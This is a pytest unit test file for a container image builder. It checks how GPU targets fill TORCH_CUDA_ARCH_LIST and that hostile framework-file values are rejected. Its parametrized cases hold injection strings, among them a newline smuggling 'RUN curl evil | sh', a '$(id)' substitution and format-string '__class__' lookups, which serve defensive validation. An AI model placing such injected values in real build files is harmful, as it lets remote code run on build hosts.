"""A devel image's own variables from its framework's `devel_env` (manifest/devel_env.py): what
torch's extension builds need where there is no GPU, filled in from the release's targets;
hostile values in a framework file refused before anything is rendered."""

from __future__ import annotations

from pathlib import Path

import pytest

from ngc_builder.errors import InputError
from ngc_builder.lock.models import load_lock, lock_path
from ngc_builder.manifest.devel_env import devel_environment, fill
from ngc_builder.manifest.load import load_release
from ngc_builder.plan.dag import plan_release
from ngc_builder.render.contexts import render_release
from tests.conftest import WriteRelease
from tests.unit.manifest.test_devel import DEVEL_RELEASE

pytestmark = pytest.mark.unit

# pytorch and jax both with their devel image, on targets given out of order.
BOTH_DEVEL = DEVEL_RELEASE.replace(
    '    version: "2.15.0"\n    stack: cu13\n',
    '    version: "2.15.0"\n    stack: cu13\n    devel: true\n'
    '    gpu_targets: ["9.0", "10.0", "8.0"]\n')


def _dockerfiles(manifest: Path) -> dict[str, str]:
    loaded = load_release(manifest)
    lock = load_lock(lock_path(manifest))
    assert lock is not None
    return {image.spec.name: image.dockerfile
            for image in render_release(loaded, plan_release(loaded), lock)}


def test_the_targets_fill_in_oldest_first_with_ptx_of_the_newest() -> None:
    assert fill("{gpu_targets}", ["9.0", "10.0", "8.0", "9.0"]) == "8.0;9.0;10.0"
    assert fill("{gpu_targets_ptx}", ["9.0", "10.0", "8.0"]) == "8.0;9.0;10.0+PTX"
    assert devel_environment({"B": "x", "A": "{gpu_targets_ptx}"}, ["8.0"]) == \
        {"A": "8.0+PTX", "B": "x"}


def test_the_pytorch_devel_image_sets_the_arch_list_torch_needs_without_a_gpu(
        write_release: WriteRelease) -> None:
    dockerfiles = _dockerfiles(write_release(BOTH_DEVEL))
    assert 'TORCH_CUDA_ARCH_LIST="8.0;9.0;10.0+PTX"' in dockerfiles["pytorch-devel"]
    # Only where the framework asks for it: not in jax's devel image, nor the framework image.
    assert "TORCH_CUDA_ARCH_LIST" not in dockerfiles["jax-devel"]
    assert "TORCH_CUDA_ARCH_LIST" not in dockerfiles["pytorch"]


@pytest.mark.parametrize(("line", "why"), [
    ('  TORCH_CUDA_ARCH_LIST: "{gpu_targets}\\nRUN curl evil | sh"', "is not a plain word"),
    ('  TORCH_CUDA_ARCH_LIST: "$(id) {gpu_targets}"', "is not a plain word"),
    ('  TORCH_CUDA_ARCH_LIST: "{__class__}"', "names __class__"),
    ('  TORCH_CUDA_ARCH_LIST: "{gpu_targets.__class__}"', "names gpu_targets.__class__"),
    ('  torch_cuda_arch_list: "{gpu_targets}"', "is not an environment variable name"),
])
def test_a_hostile_devel_env_in_a_framework_file_is_refused_naming_it(
        write_release: WriteRelease, line: str, why: str) -> None:
    manifest = write_release(BOTH_DEVEL)
    framework = manifest.parents[1] / "frameworks" / "pytorch" / "framework.yaml"
    text = framework.read_text()  # the test project's own copy (tests/conftest.py)
    start = text.index("devel_env:")
    framework.write_text(text[:start] + "devel_env:\n" + line + "\n")
    found = _problems(manifest)
    # (the row naming the framework then says its folder is not complete: a second line)
    assert found[0].startswith("frameworks/pytorch/framework.yaml:"), found
    assert "devel_env" in found[0], found
    assert why in found[0], found


def _problems(manifest: Path) -> list[str]:
    with pytest.raises(InputError) as caught:
        load_release(manifest)
    return [str(problem) for problem in caught.value.problems]
